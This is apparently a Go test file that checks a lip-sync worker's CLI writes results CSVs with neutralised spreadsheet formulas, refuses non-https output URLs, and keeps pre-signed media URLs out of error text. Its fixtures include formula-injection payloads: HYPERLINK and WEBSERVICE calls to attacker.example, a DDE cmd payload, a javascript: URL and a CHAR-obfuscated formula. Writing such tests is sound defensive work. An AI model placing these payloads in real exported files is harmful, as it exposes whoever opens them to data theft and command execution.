package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/chamelaion-lipsync/worker/activities"
	"github.com/chamelaion-lipsync/worker/lipsync"
)

// TestResultsFileNeutralisesFormulasAndChecksOutputURLs: a reference_id or
// error a spreadsheet would run as a formula is quoted, an output_url that
// is not an https URL is left out, and the file is 0600 even when it
// existed with a wider mode.
func TestResultsFileNeutralisesFormulasAndChecksOutputURLs(t *testing.T) {
	path := filepath.Join(t.TempDir(), "batch.results.csv")
	require.NoError(t, os.WriteFile(path, []byte("old"), 0o644))
	outcomes := []lipsync.JobOutcome{
		{ReferenceID: `=HYPERLINK("https://attacker.example/?"&A1,"click")`, Status: "completed", OutputURL: "https://storage.chamelaion.com/output/1.mp4"},
		{ReferenceID: "+1+1", Status: "completed", OutputURL: `=WEBSERVICE("https://attacker.example")`},
		{ReferenceID: "-2", Status: "completed", OutputURL: "javascript:alert(1)"},
		{ReferenceID: "@SUM(A1)", Status: "completed", OutputURL: "http://storage.chamelaion.com/output/2.mp4"},
		{ReferenceID: "\tx", Status: "escalated", Error: "JobFailed: =cmd|' /C calc'!A0"},
		{ReferenceID: " =1", Status: "escalated", Error: "JobFailed: cannot fetch https://cdn/v.mp4?X-Amz-Signature=SIGSECRET"},
		{ReferenceID: "ep-1", Status: "completed", OutputURL: "https://storage.chamelaion.com/output/3.mp4"},
	}
	require.NoError(t, writeResults(path, outcomes))
	st, err := os.Stat(path)
	require.NoError(t, err)
	require.Equal(t, os.FileMode(0o600), st.Mode().Perm())
	raw, err := os.ReadFile(path)
	require.NoError(t, err)
	require.NotContains(t, string(raw), "SIGSECRET")
	rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, len(outcomes)+1)
	for _, row := range rows[1:] {
		for _, cell := range row {
			if t2 := strings.TrimLeft(cell, " "); t2 != "" {
				require.NotContains(t, formulaStarts, t2[:1], "cell %q", cell)
			}
		}
		require.True(t, row[2] == "" || strings.HasPrefix(row[2], "https://"), row[2])
	}
	require.Equal(t, "'"+outcomes[0].ReferenceID, rows[1][0])
	require.Equal(t, outcomes[0].OutputURL, rows[1][2])
	require.Empty(t, rows[2][2])
	require.Contains(t, rows[2][3], "output_url refused")
	require.Empty(t, rows[3][2])
	require.Empty(t, rows[4][2], "plain http is refused too")
	require.Equal(t, []string{"ep-1", "completed", outcomes[6].OutputURL, ""}, rows[7])
}

// TestMediaURLsFromStandardInputOrAFile: pre-signed URLs need not be on
// the command line (ps shows them for as long as submit --wait runs); the
// errors about them never repeat them, and --help says how.
func TestMediaURLsFromStandardInputOrAFile(t *testing.T) {
	t.Setenv("TEMPORAL_ADDRESS", "127.0.0.1:1")
	t.Setenv("PAYLOAD_ENCRYPTION", "off")
	good := "# the media\nvideo_url=https://cdn/v.mp4?X-Amz-Signature=SIGSECRET\naudio_url=https://cdn/a.wav?X-Amz-Signature=SIGSECRET\n"
	file := filepath.Join(t.TempDir(), "media")
	require.NoError(t, os.WriteFile(file, []byte(good), 0o600))
	for _, from := range []string{"-", file} {
		stdin = strings.NewReader(good)
		var stderr bytes.Buffer
		code := run(context.Background(), []string{"submit", "--media-from", from, "--reference-id", "from-" + filepath.Base(from)}, io.Discard, &stderr)
		require.Equal(t, 1, code, "read and valid: it got as far as dialling Temporal (%s)", stderr.String())
		require.NotContains(t, stderr.String(), "SIGSECRET")
	}
	for _, tc := range []struct{ input, want string }{
		{"video_url=https://cdn/v.mp4?sig=SIGSECRET\n", "want both"},
		{"video_url=https://cdn/v.mp4?sig=SIGSECRET\nvideo_url=https://x\naudio_url=https://a\n", "given twice"},
		{"https://cdn/v.mp4?sig=SIGSECRET\n", "line 1: unknown name"},
		{"video_url=ftp://cdn/v.mp4?sig=SIGSECRET\naudio_url=https://a/x\n", "video must be an http(s) URL"},
	} {
		stdin = strings.NewReader(tc.input)
		var stderr bytes.Buffer
		code := run(context.Background(), []string{"submit", "--media-from", "-"}, io.Discard, &stderr)
		require.Equal(t, 2, code, tc.input)
		require.Contains(t, stderr.String(), tc.want)
		require.NotContains(t, stderr.String(), "SIGSECRET")
	}
	stdin = strings.NewReader(good)
	var stderr bytes.Buffer
	require.Equal(t, 2, run(context.Background(), []string{"submit", "--media-from", "-", "--video-url", "https://v/x"}, io.Discard, &stderr))
	require.Contains(t, stderr.String(), "not both")
	stderr.Reset()
	require.Equal(t, 0, run(context.Background(), []string{"submit", "--help"}, io.Discard, &stderr))
	require.Contains(t, stderr.String(), "-media-from")
	require.Contains(t, stderr.String(), "standard input")
	stdin = os.Stdin
}

// TestStarterWarnsThatHistoriesHoldURLsInTheClear: without payload keys
// the starter says so before it starts jobs, unless PAYLOAD_ENCRYPTION=off
// says it is intended.
func TestStarterWarnsThatHistoriesHoldURLsInTheClear(t *testing.T) {
	t.Setenv("TEMPORAL_ADDRESS", "127.0.0.1:1")
	args := []string{"submit", "--video-url", "https://v/x.mp4", "--audio-url", "https://a/x.wav"}
	var stderr bytes.Buffer
	run(context.Background(), args, io.Discard, &stderr)
	require.Contains(t, stderr.String(), "histories will hold media URLs")
	t.Setenv("PAYLOAD_ENCRYPTION", "off")
	stderr.Reset()
	run(context.Background(), args, io.Discard, &stderr)
	require.NotContains(t, stderr.String(), "histories will hold")
}

// TestResultsFileRunsNoFormulaWithASemicolonSeparator: read as Excel reads
// a CSV file in a locale whose list separator is ";" (German, French,
// Italian, Spanish), no cell of the results file is a formula, whether it
// comes from a reference_id, the vendor's output URL or an error text
// (found by a review: only the first character of each comma-separated
// cell was checked).
func TestResultsFileRunsNoFormulaWithASemicolonSeparator(t *testing.T) {
	ref := "r1;=HYPERLINK(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&CHAR(58)&CHAR(47)&CHAR(47)&CHAR(101)&CHAR(46)&CHAR(120));"
	require.NoError(t, activities.ValidateReferenceID(ref), "such a reference_id is accepted")
	outs := []lipsync.JobOutcome{
		{ReferenceID: ref, Status: "completed", OutputURL: "https://cdn.example/o.mp4;=1+1;"},
		{ReferenceID: "r2", Status: "escalated", Error: "JobFailed: bad;=2+2, -3+3"},
		{ReferenceID: "r3", Status: "completed", OutputURL: "https://cdn.example/o.mp4?a=1;b=2"},
	}
	var buf bytes.Buffer
	require.NoError(t, writeResultsTo(&buf, outs))
	for _, sep := range []rune{';', ','} {
		r := csv.NewReader(strings.NewReader(buf.String()))
		r.Comma, r.FieldsPerRecord, r.LazyQuotes = sep, -1, true
		recs, err := r.ReadAll()
		require.NoError(t, err)
		for _, rec := range recs {
			for _, cell := range rec {
				require.False(t, strings.ContainsAny(strings.TrimLeft(cell, " ")[:min(1, len(strings.TrimLeft(cell, " ")))], "=+-@"), "separator %q: formula cell %q", sep, cell)
			}
		}
	}
	require.Contains(t, buf.String(), "https://cdn.example/o.mp4?a=1;b=2", "a URL that runs nothing is kept as it is")
	require.Contains(t, buf.String(), "output_url refused: the vendor's value holds text a spreadsheet would run as a formula")
}
